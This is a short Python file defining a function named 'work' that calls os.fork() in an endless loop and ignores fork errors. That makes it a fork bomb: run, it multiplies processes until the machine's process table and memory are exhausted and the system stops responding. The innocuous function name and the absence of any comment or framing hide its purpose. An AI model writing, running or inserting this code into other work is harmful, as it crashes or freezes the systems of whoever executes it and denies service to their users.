import os


def work(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
